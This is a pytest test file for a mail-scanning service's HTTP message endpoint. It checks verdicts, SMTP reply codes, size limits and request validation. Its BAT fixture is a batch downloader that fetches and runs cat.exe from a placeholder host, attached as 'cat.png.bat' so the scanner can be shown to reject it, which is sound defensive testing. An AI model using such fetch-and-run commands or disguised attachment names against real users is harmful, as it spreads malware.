"""POST /v2/messages against a real `mailowl serve` process: a whole message in, the milter's decision out."""

from __future__ import annotations

import http.client
import json
import socket
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest

from .server import Server

BAT = b"@echo off\r\ncurl http://x.invalid/cat.exe -o %TEMP%\\cat.exe\r\nstart %TEMP%\\cat.exe\r\n"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n" * 3
RFC822 = {"Content-Type": "message/rfc822"}


def mail(attachment: bytes, filename: str, ctype: str = "application/octet-stream", subject: str = "test",
         extra: int = 0) -> bytes:
    msg = EmailMessage()
    msg["From"] = "alice@example.org"
    msg["To"] = "bob@example.net"
    msg["Subject"] = subject
    msg["Message-ID"] = f"<{subject.replace(' ', '.')}@example.org>"
    msg.set_content("Please see the attachment.\n" + "x" * extra)
    maintype, _, subtype = ctype.partition("/")
    msg.add_attachment(attachment, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes()


@pytest.fixture(scope="module")
def owl(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    srv = Server(tmp_path_factory.mktemp("owl"), '[server]\nmax_sample_size = "512KiB"\n')
    yield srv
    srv.stop()


def post(owl: Server, data: bytes, **query: Any) -> tuple[int, Any, dict[str, str]]:
    params = urlencode(query, doseq=True)
    return owl.request("POST", "/v2/messages" + (f"?{params}" if params else ""), data, RFC822)


def test_downloader_is_tempfailed_then_rejected_with_the_milter_codes(owl: Server) -> None:
    data = mail(BAT, "cat.png.bat", subject="cute cat")
    status, first, _ = post(owl, data, wait=0, ip="192.0.2.7", helo="mx.example.org", queue_id="4AbC12",
                            hostname="mx.example.org")
    assert status == 200, first
    assert (first["action"], first["code"], first["status"]) == ("tempfail", 451, "4.7.1"), first
    assert first["reply"] == f"451 4.7.1 {first['text']} (support-id: {first['support_id']})"
    assert first["verdict"] == "pending" and first["header"] is None
    # envelope from the message when none is given; helo and queue id answered back
    assert first["envelope"]["helo"] == "mx.example.org" and first["envelope"]["queue_id"] == "4AbC12"
    (part,) = first["parts"]
    assert part["filename"] == "cat.png.bat" and part["state"] == "pending" and part["job_id"]
    owl.verdict(part["job_id"])
    status, second, _ = post(owl, data, **{"from": "<alice@example.org>", "rcpt": ["bob@example.net",
                                                                                  "carol@example.net"]})
    assert status == 200, second
    assert (second["action"], second["code"], second["status"]) == ("reject", 554, "5.7.1"), second
    assert second["reply"].startswith("554 5.7.1 Message rejected") and second["support_id"] != first["support_id"]
    assert second["parts"][0]["result"] == "bad" and second["parts"][0]["state"] == "done"
    assert second["verdict"] == "bad" and second["header"] is None
    # stored like the milter's messages, found by its support id
    status, record, _ = owl.request("GET", f"/v2/messages/{second['support_id']}")
    assert status == 200, record
    assert record["action"] == "reject" and record["ingress"] == "api" and record["reply"] == second["reply"]
    assert record["mail_from"] == "alice@example.org" and record["rcpt_to"] == ["bob@example.net",
                                                                                  "carol@example.net"]
    assert record["message_id"] == "<cute.cat@example.org>"
    assert record["parts"][0]["filename"] == "cat.png.bat" and record["parts"][0]["result"] == "bad"
    status, record, _ = owl.request("GET", f"/v2/messages/{first['support_id']}")
    assert status == 200 and record["action"] == "tempfail" and record["client_ip"] == "192.0.2.7"


def test_clean_mail_is_accepted_with_the_header_when_waiting(owl: Server) -> None:
    status, answer, _ = post(owl, mail(PDF, "report.pdf", "application/pdf", "report"), wait=60,
                             ip="198.51.100.1")
    assert status == 200, answer
    assert (answer["action"], answer["code"], answer["status"]) == ("accept", 250, "2.0.0"), answer
    assert answer["header"] == {"name": "X-Mailowl-Result",
                                "value": f"{answer['verdict']}; support-id={answer['support_id']}"}
    assert [p["filename"] for p in answer["parts"]] == ["report.pdf"]
    assert answer["parts"][0]["state"] == "done" and answer["parts"][0]["result"] is not None


def test_message_without_attachments_is_accepted_at_once(owl: Server) -> None:
    msg = b"From: a@example.org\r\nTo: b@example.net\r\nSubject: hi\r\n\r\nJust text.\r\n"
    status, answer, _ = post(owl, msg, wait=0)
    assert status == 200 and answer["action"] == "accept" and answer["parts"] == [], answer
    assert answer["verdict"] == "clean" and answer["header"]["value"].startswith("clean; support-id=mo-")


def test_large_message_is_spooled_and_judged(owl: Server) -> None:
    # 900 KB of body text plus a 200 KB attachment: past the 1 MiB in-memory limit after encoding
    data = mail(PDF * 1000, "big.pdf", "application/pdf", "big", extra=900_000)
    assert 1 << 20 < len(data) <= 4 * 512 * 1024
    status, answer, _ = post(owl, data, wait=60)
    assert status == 200 and answer["action"] == "accept", answer
    assert answer["parts"][0]["size"] == len(PDF * 1000)


def test_too_large_by_content_length_and_by_stream(owl: Server) -> None:
    data = b"Subject: x\r\n\r\n" + b"y" * (4 * 512 * 1024)
    status, answer, _ = post(owl, data)
    assert status == 413 and answer["message"] == "Message too large: the limit is 2097152 bytes"
    # chunked: no Content-Length, the limit is enforced while reading
    with socket.create_connection(("127.0.0.1", owl.port), timeout=30) as sock:
        sock.sendall(b"POST /v2/messages HTTP/1.1\r\nHost: x\r\nContent-Type: message/rfc822\r\n"
                     b"Transfer-Encoding: chunked\r\n\r\n")
        chunk = b"z" * 65536
        try:
            for _ in range(80):
                sock.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk))
            sock.sendall(b"0\r\n\r\n")
        except OSError:  # the server may answer and close before the rest is sent
            pass
        reply = sock.recv(65536)
    assert reply.startswith(b"HTTP/1.1 413"), reply[:200]


@pytest.mark.parametrize(("query", "message"), [
    ("?mode=x", "Unknown query parameter 'mode'"),
    ("?wait=abc", "wait must be a number of seconds from 0 to 300"),
    ("?wait=301", "wait must be a number of seconds from 0 to 300"),
    ("?wait=nan", "wait must be a number of seconds from 0 to 300"),
    ("?from=a&from=b", "Query parameter 'from' given more than once"),
    ("?helo=" + "h" * 1100, "Query parameter 'helo' is longer than 1024 characters"),
])
def test_bad_query_is_answered_400(owl: Server, query: str, message: str) -> None:
    status, answer, _ = owl.request("POST", "/v2/messages" + query, b"Subject: x\r\n\r\nx\r\n", RFC822)
    assert status == 400 and answer["message"].startswith(message), answer


def test_wrong_type_empty_body_and_method(owl: Server) -> None:
    status, answer, _ = owl.request("POST", "/v2/messages", b"--x--", {"Content-Type": "multipart/form-data"})
    assert status == 415 and "message/rfc822" in answer["message"]
    status, answer, _ = owl.request("POST", "/v2/messages", b"", RFC822)
    assert status == 400 and answer["message"].startswith("Empty request body")
    status, answer, _ = owl.request("GET", "/v2/messages")
    assert status == 405
    # curl --data-binary sends application/x-www-form-urlencoded unless told; octet-stream is taken too
    status, answer, _ = owl.request("POST", "/v2/messages", b"Subject: x\r\n\r\nx\r\n",
                                    {"Content-Type": "application/octet-stream"})
    assert status == 200 and answer["action"] == "accept"


def test_client_leaving_mid_body_does_not_hurt(owl: Server) -> None:
    for _ in range(5):
        with socket.create_connection(("127.0.0.1", owl.port), timeout=30) as sock:
            sock.sendall(b"POST /v2/messages HTTP/1.1\r\nHost: x\r\nContent-Type: message/rfc822\r\n"
                         b"Content-Length: 100000\r\n\r\nSubject: half")
    assert owl.request("GET", "/healthz")[0] == 200
    assert post(owl, b"Subject: x\r\n\r\nstill here\r\n")[0] == 200


def test_keep_alive_serves_many_messages_on_one_connection(owl: Server) -> None:
    conn = http.client.HTTPConnection("127.0.0.1", owl.port, timeout=30)
    try:
        ids = set()
        for i in range(20):
            conn.request("POST", "/v2/messages?wait=0", b"Subject: %d\r\n\r\nbody\r\n" % i, RFC822)
            resp = conn.getresponse()
            assert resp.status == 200
            ids.add(json.loads(resp.read())["support_id"])
        assert len(ids) == 20
    finally:
        conn.close()


def test_openapi_describes_it(owl: Server) -> None:
    doc = owl.request("GET", "/openapi.json")[1]
    post_ = doc["paths"]["/v2/messages"]["post"]
    assert "message/rfc822" in post_["requestBody"]["content"]
    assert {p["name"] for p in post_["parameters"]} == {"from", "rcpt", "ip", "hostname", "helo", "queue_id", "wait"}
    assert "/v2/messages/{support_id}" in doc["paths"]


def test_token_is_required(tmp_path: Path) -> None:
    srv = Server(tmp_path / "owl", env={"MAILOWL_SERVER_TOKEN": "s3cret"})
    try:
        status, answer, _ = srv.request("POST", "/v2/messages", b"Subject: x\r\n\r\nx\r\n",
                                        {**RFC822, "Authorization": "Bearer wrong"})
        assert status == 401
        status, answer, _ = srv.request("POST", "/v2/messages", b"Subject: x\r\n\r\nx\r\n", RFC822)
        assert status == 200 and answer["action"] == "accept"
    finally:
        srv.stop()


def test_the_configured_mail_policy_applies(tmp_path: Path) -> None:
    """[mail] settings reach POST /v2/messages exactly as they reach the milter."""
    srv = Server(tmp_path / "owl", '[mail]\non_bad = "quarantine"\nwait = 20\n')
    try:
        status, answer, _ = post(srv, mail(BAT, "cat.png.bat", subject="quarantined cat"))
        assert status == 200 and answer["action"] == "quarantine" and answer["verdict"] == "bad", answer
    finally:
        srv.stop()
